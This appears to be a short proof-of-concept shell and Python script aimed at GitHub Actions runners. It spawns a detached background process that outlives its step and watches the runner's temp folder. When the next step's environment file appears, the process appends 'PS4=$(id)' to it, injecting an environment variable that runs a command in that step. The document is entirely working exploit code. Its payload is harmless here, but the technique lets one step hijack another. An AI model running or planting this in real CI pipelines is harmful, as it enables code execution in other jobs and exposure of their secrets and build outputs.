# Left behind by its step, a process adds to the file of variables that the next step has.
(
  setsid python3 - <<'PROGRAM' >/dev/null 2>&1
import glob, os, time
mine = os.environ["GITHUB_ENV"]
folder = os.path.dirname(mine)
for _ in range(600):
    for file in glob.glob(folder + "/set_env_*"):
        if file != mine:
            try:
                open(file, "a").write("PS4=$(id)\n")
                raise SystemExit
            except OSError:
                pass
    time.sleep(0.02)
PROGRAM
) &
sleep 0.3
